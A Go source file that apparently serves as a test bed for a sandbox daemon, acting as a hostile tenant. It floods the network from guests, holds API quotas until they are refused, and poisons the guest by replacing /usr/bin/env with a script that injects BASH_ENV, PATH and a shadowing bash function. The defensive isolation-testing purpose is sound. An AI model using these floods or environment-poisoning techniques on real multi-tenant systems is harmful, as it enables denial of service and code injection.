package tenantbed

import (
	"context"
	"crypto/rand"
	_ "embed"
	"encoding/hex"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/pve-inspect/pve-inspect/sandboxapi/apitype"
	"github.com/pve-inspect/pve-inspect/sandboxapi/client"
	"github.com/pve-inspect/pve-inspect/testvm"
)

//go:embed flood.py
var floodScript []byte

// Markers the hostile tenant leaves: a variable of its poisoned agent
// environment, the file its injected code writes when it runs, a file of
// its own and a label.
const (
	MarkVar    = "TENANT_A_MARK"
	MarkRan    = "/var/tmp/tenant-a-ran"
	MarkFile   = "/var/tmp/tenant-a-secret"
	MarkPath   = "/var/tmp/tenant-a-bin"
	MarkLabel  = "tenant-a-label"
	floodPath  = "/var/tmp/tenant-a-flood.py"
	holdPrefix = "/var/tmp/tenant-a-hold-"
)

// AttackOptions bound the hostile tenant's attack; zero fields take the
// defaults in brackets.
type AttackOptions struct {
	// Execs, Files and Streams are the most long execs, held file writes
	// and event streams tried, each until the daemon refuses one [40, 16,
	// 64].
	Execs, Files, Streams int
	// FilterIDs is the most sandbox ids in each stream's sandbox= filter,
	// halved while the daemon refuses it as too large [4800: about the
	// API listener's 64 KiB of request header].
	FilterIDs int
	// Flood is how long the in-guest floods run [2m]; DNSRate, SYNRate and
	// UDPRate are each flood's packets per second from each VM [200, 500,
	// 500], Proxy the connections each VM holds through the proxy [1000].
	// The rates are kept well under what fills the machine's connection
	// tracking table (nf_conntrack_max is one for all namespaces, so a
	// full table would hit every bed on the machine, not only this one).
	Flood                     time.Duration
	DNSRate, SYNRate, UDPRate int
	Proxy                     int
}

// WithDefaults returns o with its zero fields set to the defaults.
func (o AttackOptions) WithDefaults() AttackOptions {
	def := func(v *int, d int) {
		if *v == 0 {
			*v = d
		}
	}
	def(&o.Execs, 40)
	def(&o.Files, 16)
	def(&o.Streams, 64)
	def(&o.FilterIDs, 4800)
	def(&o.DNSRate, 200)
	def(&o.SYNRate, 500)
	def(&o.UDPRate, 500)
	def(&o.Proxy, 1000)
	if o.Flood == 0 {
		o.Flood = 2 * time.Minute
	}
	return o
}

// AttackStats is what the attack got and where it was refused.
type AttackStats struct {
	// Held counts the execs, file writes and streams the daemon let the
	// attacker hold at once; Refusal is the first refusal of each kind
	// ("" when none came).
	ExecsHeld, FilesHeld, StreamsHeld       int
	ExecRefusal, FileRefusal, StreamRefusal string
	// FilterIDs is the sandbox ids in each held stream's filter.
	FilterIDs int
	// Flood is each VM's in-guest flood counts (JSON) or its error (the
	// exec's, when Stop came before the flood's end).
	Flood string
}

// Attack is a hostile tenant at work on its sandbox: floods from its guest
// and every quota held through the API. Stop it.
type Attack struct {
	c      *client.Client
	sb     apitype.Sandbox
	cancel context.CancelFunc
	wg     sync.WaitGroup
	once   sync.Once

	mu    sync.Mutex // guards stats
	stats AttackStats
}

// StartAttack starts the hostile tenant's attack with c (its owner-bound
// client) from its sandbox sb: the floods from its guest (DNS to the zone
// resolver, connections held through the proxy, SYNs and UDP to the
// node's and the gateway's closed ports), then long execs, held file
// writes and event streams with large filters, each until refused. It
// returns once everything is held; the floods run on until opts.Flood
// ends. Every exec of the attack sets Cwd, so none takes the direct path
// that reads the agent's environment ([Attack.Poison] does that last).
func StartAttack(ctx context.Context, c *client.Client, sb apitype.Sandbox, opts AttackOptions) (*Attack, error) {
	opts = opts.WithDefaults()
	vm := sb.VMs[0].Name
	if err := c.WriteFile(ctx, sb.ID, vm, floodPath, strings.NewReader(string(floodScript)), int64(len(floodScript)), 0o755); err != nil {
		return nil, fmt.Errorf("tenantbed: attack: write flood script: %w", err)
	}
	if err := c.WriteFile(ctx, sb.ID, vm, MarkFile, strings.NewReader("tenant a's secret\n"), -1, 0o600); err != nil {
		return nil, fmt.Errorf("tenantbed: attack: write secret: %w", err)
	}
	actx, cancel := context.WithCancel(context.WithoutCancel(ctx))
	a := &Attack{c: c, sb: sb, cancel: cancel}
	gw := testvm.UplinkAddr
	if len(sb.Networks) > 0 && sb.Networks[0].Gateway != "" {
		gw = sb.Networks[0].Gateway
	}
	secs := int(opts.Flood.Seconds())
	argv := []string{"/usr/bin/python3", floodPath, fmt.Sprintf("seconds=%d", secs),
		"dns=" + testvm.InternetAddr, "allowed=" + testvm.InternetName, "denied=tenant-a-denied.invalid", fmt.Sprintf("dns_n=%d", opts.DNSRate*secs),
		"proxy=" + testvm.InternetAddr + ":80", fmt.Sprintf("proxy_n=%d", opts.Proxy),
		// the last SYN target is the proxy's (a learned address): those
		// connections are tracked, the others dropped before they are
		"syn=" + strings.Join([]string{testvm.NodeMgmtAddr, gw, testvm.InternetAddr, testvm.InternetAddr + ":80"}, ","), fmt.Sprintf("syn_n=%d", opts.SYNRate*secs),
		"udp=" + strings.Join([]string{testvm.NodeMgmtAddr, gw, testvm.InternetAddr}, ","), fmt.Sprintf("udp_n=%d", opts.UDPRate*secs)}
	for _, v := range sb.VMs {
		if v.Name != vm {
			if err := c.WriteFile(ctx, sb.ID, v.Name, floodPath, strings.NewReader(string(floodScript)), int64(len(floodScript)), 0o755); err != nil {
				cancel()
				return nil, fmt.Errorf("tenantbed: attack: write flood script: %w", err)
			}
		}
		a.wg.Add(1)
		go func() {
			defer a.wg.Done()
			res, err := c.Exec(actx, sb.ID, v.Name, apitype.ExecRequest{Argv: argv, Cwd: "/", TimeoutSeconds: int64(secs) + 60})
			var out string
			switch {
			case err != nil:
				out = "flood exec: " + err.Error()
			case res.ExitCode != 0:
				out = fmt.Sprintf("flood exit %d: %s", res.ExitCode, lastLine(string(res.Stderr)))
			default:
				out = strings.TrimSpace(string(res.Stdout))
			}
			a.mu.Lock()
			defer a.mu.Unlock()
			a.stats.Flood = strings.TrimSpace(a.stats.Flood + "\n" + v.Name + ": " + out)
		}()
	}
	var st AttackStats
	var err error
	st.ExecsHeld, err = a.hold(actx, opts.Execs, func(ctx context.Context, i int) error {
		_, err := c.Exec(ctx, sb.ID, vm, apitype.ExecRequest{Argv: []string{"sleep", "600"}, Cwd: "/", TimeoutSeconds: 600})
		return err
	})
	st.ExecRefusal = refusal(err)
	st.FilesHeld, err = a.hold(actx, opts.Files, func(ctx context.Context, i int) error {
		return c.WriteFile(ctx, sb.ID, vm, fmt.Sprintf("%s%d", holdPrefix, i), blockingReader{ctx}, 1<<20, 0o600)
	})
	st.FileRefusal = refusal(err)
	ids := make([]string, opts.FilterIDs)
	ids[0] = sb.ID
	for i := 1; i < len(ids); i++ {
		ids[i] = fakeID()
	}
	// the largest filter the daemon takes: halved while it is refused as
	// too large (a bound on the filter, or on the request's header)
	for size := len(ids); ; size /= 2 {
		st.FilterIDs = size
		var err error
		st.StreamsHeld, err = a.hold(actx, opts.Streams, func(ctx context.Context, i int) error {
			return c.Events(ctx, client.EventsRequest{Sandboxes: ids[:size]}, func(apitype.Event) error { return nil })
		})
		if st.StreamsHeld == 0 && tooLarge(err) && size > 1 {
			continue
		}
		st.StreamRefusal = refusal(err)
		break
	}
	a.mu.Lock()
	st.Flood = a.stats.Flood
	a.stats = st
	a.mu.Unlock()
	return a, nil
}

// holdSettle is how long a started hold is given to be refused before
// the next one starts (a refusal comes at once; a held call blocks).
const holdSettle = 500 * time.Millisecond

// hold starts call up to most times, each on a goroutine of the attack
// that blocks until the attack stops, and stops at the first call that
// fails at once. It returns how many are held and that failure (nil when
// none came).
func (a *Attack) hold(ctx context.Context, most int, call func(context.Context, int) error) (held int, failure error) {
	for i := range most {
		done := make(chan error, 1)
		a.wg.Add(1)
		go func() {
			defer a.wg.Done()
			done <- call(ctx, i)
		}()
		select {
		case err := <-done:
			if err == nil || ctx.Err() != nil {
				continue // ended by itself: holds nothing
			}
			return held, err
		case <-time.After(holdSettle):
			held++
		case <-ctx.Done():
			return held, nil
		}
	}
	return held, nil
}

// refusal says what failure was: "" for none, the problem for a refusal
// (Refused), "not a refusal: ..." for anything else.
func refusal(failure error) string {
	switch {
	case failure == nil:
		return ""
	case Refused(failure):
		return failure.Error()
	default:
		return "not a refusal: " + failure.Error()
	}
}

// tooLarge reports whether err refuses a request for its size.
func tooLarge(err error) bool {
	var p *apitype.Problem
	if !errors.As(err, &p) {
		return false
	}
	switch p.Status {
	case http.StatusBadRequest, http.StatusRequestEntityTooLarge, http.StatusRequestURITooLong, http.StatusRequestHeaderFieldsTooLarge:
		return true
	}
	return false
}

// fakeID is a sandbox id of the daemon's form ("sb" and six of a-z0-9)
// that no sandbox has.
func fakeID() string {
	const alpha = "abcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, 6)
	_, _ = rand.Read(b)
	for i := range b {
		b[i] = alpha[int(b[i])%len(alpha)]
	}
	return "sb" + string(b)
}

// Stop ends every held call and waits for the attack's goroutines (the
// flood exec's HTTP call ends with them; the guest's flood ends with its
// time bound or the sandbox). It returns what the attack got; a second
// Stop returns the same.
func (a *Attack) Stop() AttackStats {
	a.once.Do(func() {
		a.cancel()
		a.wg.Wait()
	})
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.stats
}

// poisonedEnv is the /usr/bin/env the hostile tenant puts in its guest: it
// prints, NUL-separated, a PATH of its own first, a BASH_ENV, a marker and
// an exported bash function that shadows the builtin `true` and leaves
// MarkRan (bash imports BASH_FUNC_name%% variables as functions).
var poisonedEnv = `#!/bin/bash
printf '%s\0' "PATH=` + MarkPath + `:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin" \
  "BASH_ENV=` + MarkPath + `/bashenv" "` + MarkVar + `=1" "HOME=/root" \
  "BASH_FUNC_true%%=() {  echo tenant-a >` + MarkRan + `; }"
`

// wrapper replaces a common tool: it leaves MarkRan and runs the real one.
func wrapper(real string) string {
	return "#!/bin/bash\necho tenant-a >" + MarkRan + "\nexec " + real + " \"$@\"\n"
}

// poisonWait is how long Poison keeps trying its poisoned `true` in its
// own guest: longer than the minute base daemons kept a captured agent
// environment before reading it again.
const poisonWait = 70 * time.Second

// Poison replaces /usr/bin/env and common tools in the hostile tenant's
// guest and runs argv-only execs (the direct path, which on the base
// daemon read the agent's environment by running /usr/bin/env, once a
// minute) until its poisoned `true` runs in its own guest or poisonWait
// passes, then one exec with an output far over its output limit. It
// returns whether the poisoned `true` ran in its own guest (true where the
// daemon takes the guest's word for the environment).
func Poison(ctx context.Context, c *client.Client, sb apitype.Sandbox) (ranInOwn bool, err error) {
	vm := sb.VMs[0].Name
	put := func(p, body string) error {
		if err := retryRefused(ctx, func() error {
			return c.WriteFile(ctx, sb.ID, vm, p, strings.NewReader(body), int64(len(body)), 0o755)
		}); err != nil {
			return fmt.Errorf("tenantbed: poison %s: %w", p, err)
		}
		return nil
	}
	// env first: nothing after it may run before it is in place
	if err := put("/usr/bin/env", poisonedEnv); err != nil {
		return false, err
	}
	if err := put(MarkPath+"/bashenv", "echo tenant-a >"+MarkRan+"\n"); err != nil {
		return false, err
	}
	for _, tool := range []string{"id", "ls", "cat", "mkdir", "rm", "chown", "sh", "true", "uname"} {
		if err := put(MarkPath+"/"+tool, wrapper("/usr/bin/"+tool)); err != nil {
			return false, err
		}
	}
	deadline := time.Now().Add(poisonWait)
	for !ranInOwn && time.Now().Before(deadline) {
		if err := retryRefused(ctx, func() error {
			_, err := c.Exec(ctx, sb.ID, vm, apitype.ExecRequest{Argv: []string{"bash", "-c", "true"}})
			return err
		}); err != nil {
			return false, fmt.Errorf("tenantbed: poison exec: %w", err)
		}
		var sink strings.Builder
		if _, err := c.ReadFile(ctx, sb.ID, vm, MarkRan, &sink); err == nil {
			ranInOwn = true
			break
		}
		select {
		case <-ctx.Done():
			return false, ctx.Err()
		case <-time.After(5 * time.Second):
		}
	}
	// an agent reply far over what the request asked for
	if _, err := c.Exec(ctx, sb.ID, vm, apitype.ExecRequest{Argv: []string{"head", "-c", "33554432", "/dev/zero"}, OutputLimit: 4096}); err != nil && !Refused(err) {
		return ranInOwn, fmt.Errorf("tenantbed: oversize exec: %w", err)
	}
	return ranInOwn, nil
}

// retryRefused calls fn until it is not refused (the slots an ended
// attack held are given back as the daemon notices), for up to a minute.
func retryRefused(ctx context.Context, fn func() error) error {
	deadline := time.Now().Add(time.Minute)
	for {
		err := fn()
		if !Refused(err) || time.Now().After(deadline) {
			return err
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(time.Second):
		}
	}
}

// blockingReader is a request body that never sends a byte: it blocks
// until its context ends.
type blockingReader struct{ ctx context.Context }

func (r blockingReader) Read([]byte) (int, error) {
	<-r.ctx.Done()
	return 0, errors.New("tenantbed: hold ended")
}

func randHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

func lastLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.LastIndexByte(s, '\n'); i >= 0 {
		return s[i+1:]
	}
	return s
}
